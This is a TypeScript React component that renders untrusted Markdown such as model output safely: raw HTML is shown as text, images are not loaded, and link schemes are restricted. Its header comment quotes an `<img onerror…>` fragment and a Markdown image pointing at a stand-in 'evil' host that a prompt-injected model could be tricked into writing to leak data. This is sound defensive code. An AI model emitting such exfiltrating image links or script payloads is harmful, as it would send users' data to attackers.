/**
 * Markdown for untrusted text (model output, answers, memories): rendered to React elements, never to
 * an HTML string. Raw HTML in the text is shown as text (`<img onerror…>` reads as what it is); images
 * are not loaded — they become a visible "image: alt (url)" note, so a `![x](https://evil/?d=…)` the
 * model was tricked into writing cannot send anything anywhere (the page's CSP, `img-src 'self' data:`,
 * would block it as well); links keep only http(s) and mailto targets and open with no referrer.
 */
import type { ComponentProps } from 'react';
import ReactMarkdown from 'react-markdown';
import type { Components, ExtraProps } from 'react-markdown';

interface MarkdownNode {
  type: string;
  value?: string;
  children?: MarkdownNode[];
}

/** A remark plugin: raw HTML nodes become text nodes (shown, never parsed). */
function htmlAsText() {
  const visit = (node: MarkdownNode): void => {
    if (node.type === 'html') node.type = 'text';
    node.children?.forEach(visit);
  };
  return (tree: MarkdownNode) => visit(tree);
}

const safeUrl = (url: string): string => (/^(https?:|mailto:)/i.test(url) ? url : '');

const components: Components = {
  img: ({ alt, src }: ComponentProps<'img'> & ExtraProps) => (
    <span className="md-image" title="images from model output are not loaded">
      [image: {alt || 'untitled'}
      {typeof src === 'string' && src ? ` (${src})` : ''}]
    </span>
  ),
  a: ({ href, children }: ComponentProps<'a'> & ExtraProps) => {
    const target = typeof href === 'string' ? safeUrl(href) : '';
    return target ? (
      <a href={target} target="_blank" rel="noopener noreferrer nofollow">
        {children}
      </a>
    ) : (
      <span>{children}</span>
    );
  },
};

/** Renders untrusted Markdown safely. */
export function Markdown({ text }: { text: string }) {
  return (
    <div className="markdown">
      <ReactMarkdown remarkPlugins={[htmlAsText]} components={components} urlTransform={safeUrl}>
        {text}
      </ReactMarkdown>
    </div>
  );
}
